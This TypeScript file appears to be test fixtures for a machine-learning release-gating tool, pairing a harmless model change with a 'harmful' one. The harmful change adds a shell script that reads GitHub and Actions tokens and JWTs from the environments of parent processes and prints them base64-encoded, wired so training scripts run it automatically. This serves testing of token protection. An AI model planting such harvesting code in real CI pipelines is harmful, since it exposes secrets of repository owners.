import { dirname } from 'node:path'
import { oraclePythonIfAny } from '../oracles/venv.ts'
import type { World } from './world.ts'

/** Files to commit, made out of what main holds. */
type Change = (file: World['file']) => Promise<Record<string, string>>

/** What differs between the examples, whose models go the same way. */
export interface Story {
  readonly example: string
  /** keys of the jobs that run before the one that releases */
  readonly judging: readonly string[]
  /** `<job>/<step>` of the gate */
  readonly gate: string
  /** another model that is as good */
  readonly harmless: Change
  /** a model that is worse, trained by a script that looks for tokens */
  readonly harmful: Change
  /** training data that production has not seen */
  readonly newData: Change
  /** @returns folder of the interpreter; undefined where none is needed, false where it cannot be had */
  python(): string | undefined | false
}

/** Prints what a token could be in the environment of every process from its own up to the first: `seen <n> <base64>`. */
const snoop = `pid=$$ n=0
while [ "$pid" -gt 1 ]; do
  found=$(tr '\\0' '\\n' < "/proc/$pid/environ" | grep -E '^(ACTIONS_|INPUT_|GITHUB_TOKEN|GH_TOKEN)|gh[a-z]_|eyJ')
  echo "seen $n $(printf %s "$found" | base64 -w0)"
  pid=$(awk '/^PPid/ {print $2}' "/proc/$pid/status") n=$((n + 1))
done
`

const replaced = (text: string, from: string | RegExp, to: string) => {
  const changed = text.replace(from, to)
  if (changed === text) throw new Error(`there is no ${from} to change`)
  return changed
}

const newData: Change = async (file) => {
  const train = await file('data/train.csv')
  return { 'data/train.csv': `${train.trimEnd().split('\n').slice(0, -3).join('\n')}\n` }
}

export const stories: readonly Story[] = [
  {
    example: 'penguins',
    judging: ['model'],
    gate: 'model/gate',
    harmless: async (file) => ({ 'params.json': replaced(await file('params.json'), '2000', '1500') }),
    harmful: async (file) => ({
      'snoop.sh': snoop,
      'params.json': replaced(await file('params.json'), '"bill_length_mm", "bill_depth_mm", ', ''),
      'train.mjs': `import { execFileSync } from 'node:child_process'
execFileSync('bash', ['snoop.sh'], { stdio: 'inherit' })
${await file('train.mjs')}`,
    }),
    newData,
    python: () => undefined,
  },
  {
    example: 'penguins-sklearn',
    judging: ['train', 'gate'],
    gate: 'gate/gate',
    harmless: async (file) => ({ 'params.yaml': replaced(await file('params.yaml'), 'C: 4.0', 'C: 5.0') }),
    harmful: async (file) => ({
      'snoop.sh': snoop,
      'params.yaml': replaced(await file('params.yaml'), 'bill_length_mm, bill_depth_mm, ', ''),
      'train.py': `${await file('train.py')}
import subprocess
subprocess.run(["bash", "snoop.sh"], check=True)
`,
    }),
    newData,
    python: () => {
      const python = oraclePythonIfAny('../../examples/penguins-sklearn/requirements.txt')
      return python === undefined ? false : dirname(python)
    },
  },
]

/** What the script that looks for tokens found, its own process first. */
export const seenIn = (log: string): string[] =>
  [...log.matchAll(/^seen \d+ (\S*)$/gm)].map(([, found = '']) =>
    Buffer.from(found, 'base64').toString('utf8'),
  )
